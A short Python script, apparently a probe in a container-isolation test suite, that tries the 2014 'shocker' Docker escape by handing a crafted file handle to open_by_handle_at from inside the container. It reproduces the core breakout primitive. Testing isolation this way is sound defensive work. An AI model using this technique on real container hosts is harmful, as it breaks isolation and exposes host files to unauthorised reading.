"""Opens files of the host by handle, which needs no path that leads to them.

Idea: the "shocker" exploit of Docker (2014).
"""

import ctypes

import kit

handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02" + bytes(120))
folder = kit.os.open("/data", kit.os.O_RDONLY)
kit.attempt("open_by_handle_at", lambda: kit.call("open_by_handle_at", folder, handle, 0))
kit.honest()
